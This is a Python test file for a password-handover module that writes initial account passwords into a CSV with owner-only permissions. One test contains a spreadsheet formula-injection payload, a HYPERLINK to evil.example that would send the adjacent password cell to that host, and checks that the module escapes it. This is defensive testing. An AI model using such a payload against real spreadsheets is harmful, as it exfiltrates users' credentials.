"""Initial passwords are never the public default, and each is written into the handover file."""

import csv
import resource
from pathlib import Path

import pytest

from syncd.app.passwords import LENGTH, PUBLIC_DEFAULT, InitialPasswords, random_password
from syncd.errors import ConfigurationError

ANNA = ("anna", "安娜, A")


def test_a_refused_creation_adds_a_line_without_a_password(tmp_path: Path) -> None:
    """A refused creation adds a line without a password after all lines of before (DESIGN 6, passwords)."""
    for _ in range(2):
        passwords = InitialPasswords(tmp_path / "handover.csv", lambda: "2026-11-24")
        given = passwords.initial(*ANNA, "wanted")
        passwords.withdrawn(*ANNA)
        passwords.close()
        passwords.close()
    assert given == "wanted"
    rows = [["anna", "安娜, A", "wanted", "2026-11-24"], ["anna", "安娜, A", "", "2026-11-24"]]
    assert list(csv.reader((tmp_path / "handover.csv").read_text(encoding="utf-8").splitlines())) == rows * 2


@pytest.mark.parametrize("wanted", ["", PUBLIC_DEFAULT])
def test_without_a_good_one_a_password_is_random(wanted: str) -> None:
    """A password is random where none is wanted or the public default is, and a lock's password is too."""
    passwords = InitialPasswords(None, lambda: "")
    found = {passwords.initial(*ANNA, wanted), passwords.initial(*ANNA, wanted), passwords.fresh(), passwords.fresh()}
    assert {len(one) for one in found} == {LENGTH}
    assert len(found) == 4
    passwords.withdrawn(*ANNA)
    passwords.close()


def test_no_account_or_name_is_a_formula_beside_a_password(tmp_path: Path) -> None:
    """A name that would send the password of its line elsewhere as a formula is a text for a spreadsheet."""
    passwords = InitialPasswords(tmp_path / "handover.csv", lambda: "2026-11-24")
    passwords.initial("=a", '=HYPERLINK("http://evil.example/?"&C1)', "wanted")
    passwords.close()
    (row,) = csv.reader((tmp_path / "handover.csv").read_text(encoding="utf-8").splitlines())
    assert row == ["'=a", '\'=HYPERLINK("http://evil.example/?"&C1)', "wanted", "2026-11-24"]


def test_the_file_is_for_its_owner_alone(tmp_path: Path) -> None:
    """The handover file is for its owner alone, also where it was readable for all before."""
    (tmp_path / "handover.csv").touch(0o644)
    InitialPasswords(tmp_path / "handover.csv", lambda: "").close()
    assert (tmp_path / "handover.csv").stat().st_mode & 0o777 == 0o600


def test_who_only_looks_makes_no_file(tmp_path: Path) -> None:
    """A command that only looks makes no handover file, and leaves one that is there as it is (I10)."""
    InitialPasswords(tmp_path / "handover.csv", lambda: "", looks_only=True).close()
    assert not (tmp_path / "handover.csv").exists()
    (tmp_path / "there.csv").write_text("x")
    InitialPasswords(tmp_path / "there.csv", lambda: "", looks_only=True).close()
    assert (tmp_path / "there.csv").read_text() == "x"


@pytest.mark.parametrize("looks_only", [True, False])
@pytest.mark.parametrize(
    ("name", "why"), [("missing/a.csv", "No such file"), (".", "Is a directory"), ("file/a.csv", "Not a directory")]
)
def test_a_file_that_cannot_be_written_is_told_before_it_is_needed(
    tmp_path: Path, name: str, why: str, looks_only: object
) -> None:
    """A handover file that cannot be written is refused when it is opened, also by a command that only looks."""
    (tmp_path / "file").touch()
    with pytest.raises(ConfigurationError, match=f"platform.handover: .* cannot be written: {why}"):
        InitialPasswords(tmp_path / name, lambda: "", looks_only=bool(looks_only))


def test_a_line_is_written_whole_or_not_at_all(tmp_path: Path) -> None:
    """A line for which there is no room on the disk is not written at all."""
    path = tmp_path / "handover.csv"
    path.write_text("x" * 90 + "\n")
    passwords = InitialPasswords(path, lambda: "")
    unlimited = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (100, unlimited[1]))
    try:
        with pytest.raises(ConfigurationError, match="cannot be written: File too large"):
            passwords.initial("anna", "A", "")
        passwords.withdrawn("anna", "A")
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, unlimited)
        passwords.close()
    assert path.read_text() == "x" * 90 + "\n"


def test_a_random_password_is_a_text_for_a_spreadsheet_too() -> None:
    """A random password begins with a letter, so that a spreadsheet takes it for a text and not for a formula."""
    found = [random_password() for _ in range(300)]
    assert all(one[0].isalpha() and len(one) == LENGTH for one in found)
    assert all({one.islower() for one in word} == {True, False} for word in found)
